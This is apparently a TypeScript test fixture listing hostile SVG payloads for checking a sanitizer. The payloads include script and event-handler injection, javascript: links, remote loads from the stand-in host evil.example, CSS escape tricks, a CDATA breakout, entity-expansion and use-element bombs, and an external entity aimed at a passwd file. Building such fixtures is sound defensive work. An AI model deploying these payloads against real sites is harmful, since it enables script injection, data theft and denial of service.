const ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const mark = 'window.hostile=(window.hostile||0)+1'

/** Nested `use` elements that multiply to a billion copies. */
const useBomb = `<svg ${ns}><defs><rect id="u0" width="1" height="1"/>${Array.from(
  { length: 9 },
  (_, level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`,
).join('')}</defs><use href="#u9"/></svg>`

/** Sources that would run code, load something or exhaust resources if they were inserted into the page. */
export const hostile: Readonly<Record<string, string>> = {
  script: `<svg ${ns}><script>${mark}</script><rect width="9" height="9"/></svg>`,
  scriptHref: `<svg ${ns}><script href="https://evil.example/a.js"/></svg>`,
  scriptData: `<svg ${ns}><script xlink:href="data:text/javascript,${mark}"/></svg>`,
  onload: `<svg ${ns} onload="${mark}"><rect width="9" height="9" onclick="${mark}" onfocus="${mark}" tabindex="0" autofocus="1"/></svg>`,
  animateOnbegin: `<svg ${ns}><rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="${mark}" to="5"/></rect></svg>`,
  setHref: `<svg ${ns}><a id="x"><set attributeName="href" to="javascript:${mark}"/><text y="9">x</text></a></svg>`,
  javascriptLink: `<svg ${ns}><a href="javascript:${mark}" xlink:href="javascript:${mark}"><text y="9">x</text></a></svg>`,
  foreignObject: `<svg ${ns}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.hostile=1&lt;/script&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/i" onerror="${mark}"/></foreignObject></svg>`,
  imageLoads: `<svg ${ns}><image href="https://evil.example/image.png" width="9" height="9"/><image xlink:href="//evil.example/two.png" width="9" height="9"/></svg>`,
  imageSvg: `<svg ${ns}><image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.hostile=1'/%3E" width="9" height="9"/></svg>`,
  useElsewhere: `<svg ${ns}><use href="https://evil.example/u.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/></svg>`,
  paintElsewhere: `<svg ${ns}><rect width="9" height="9" fill="url(https://evil.example/p.svg#a)" style="fill:url('https://evil.example/q.svg#a');background:url(https://evil.example/b.png)"/></svg>`,
  escapedUrl: `<svg ${ns}><rect width="9" height="9" style="fill:\\75rl(https://evil.example/e.svg#a);mask:u\\72l(https://evil.example/m)"/></svg>`,
  styleImport: `<svg ${ns}><style>@import url(https://evil.example/c.css);@import "https://evil.example/d.css";rect{fill:url(https://evil.example/f.svg#a);background-image:url(https://evil.example/g.png)}@font-face{font-family:x;src:url(https://evil.example/h.woff2)}text{font-family:x}:host{display:none}</style><rect width="9" height="9"/><text y="9">x</text></svg>`,
  styleBreakout: `<svg ${ns}><style><![CDATA[ </style><img src=x onerror="${mark}"> ]]></style></svg>`,
  filterImage: `<svg ${ns}><filter id="f"><feImage href="https://evil.example/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  cursor: `<svg ${ns}><rect width="9" height="9" cursor="url(https://evil.example/cur.png),auto"/></svg>`,
  xmlBase: `<svg ${ns} xml:base="https://evil.example/"><use href="#a"/><image href="x.png" width="9" height="9"/></svg>`,
  entities: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${ns}><text y="9">&c;</text></svg>`,
  externalEntity: `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/passwd">]><svg ${ns}><text y="9">&x;</text></svg>`,
  stylesheetInstruction: `<?xml-stylesheet href="https://evil.example/s.css"?><svg ${ns}/>`,
  useBomb,
  useCircle: `<svg ${ns}><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`,
  html: `<svg ${ns}><html:script xmlns:html="http://www.w3.org/1999/xhtml">${mark}</html:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${mark}"/></svg>`,
}
